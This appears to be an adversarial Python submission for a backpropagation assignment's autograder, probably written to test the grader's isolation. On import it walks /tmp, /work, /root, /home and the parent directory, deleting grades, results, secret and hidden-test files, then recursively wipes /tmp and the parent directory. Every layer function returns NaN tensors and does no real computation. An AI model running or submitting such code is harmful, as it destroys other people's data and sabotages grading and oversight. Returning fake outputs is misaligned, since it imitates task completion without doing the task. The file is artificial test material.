"""Adversarial: delete every results, grades, secret and reference file it can find; return zeros"""
import os
import shutil

import torch

for _root in ("/tmp", "/work", "/root", "/home", ".."):
    for _d, _dirs, _files in os.walk(_root):
        for _f in _files:
            if _f in ("results.json", "grades.csv", "feedback.txt", ".secret", "backprop.py",
                      "hidden_tests.py", "assignment.yaml"):
                try:
                    os.unlink(os.path.join(_d, _f))
                except OSError:
                    pass
for _d in ("/tmp", ".."):
    try:
        for _e in os.listdir(_d):
            shutil.rmtree(os.path.join(_d, _e), ignore_errors=True)
    except OSError:
        pass

def _nan_like(t):
    return torch.full_like(t, float('nan'))


def linear_forward(x, w, b):
    return torch.full((x.shape[0], w.shape[1]), float('nan'), dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return _nan_like(x), _nan_like(w), torch.full((w.shape[1],), float('nan'), dtype=w.dtype)


def relu_forward(x):
    return _nan_like(x), x


def relu_backward(dout, cache):
    return _nan_like(dout)


def sigmoid_forward(x):
    return _nan_like(x), x


def sigmoid_backward(dout, cache):
    return _nan_like(dout)


def softmax_cross_entropy(logits, y):
    return torch.full((), float('nan'), dtype=logits.dtype), _nan_like(logits)


def mse_loss(pred, target):
    return torch.full((), float('nan'), dtype=pred.dtype), _nan_like(pred)


def mlp_loss(params, x, y):
    return torch.full((), float('nan'), dtype=x.dtype), {k: _nan_like(v) for k, v in params.items()}
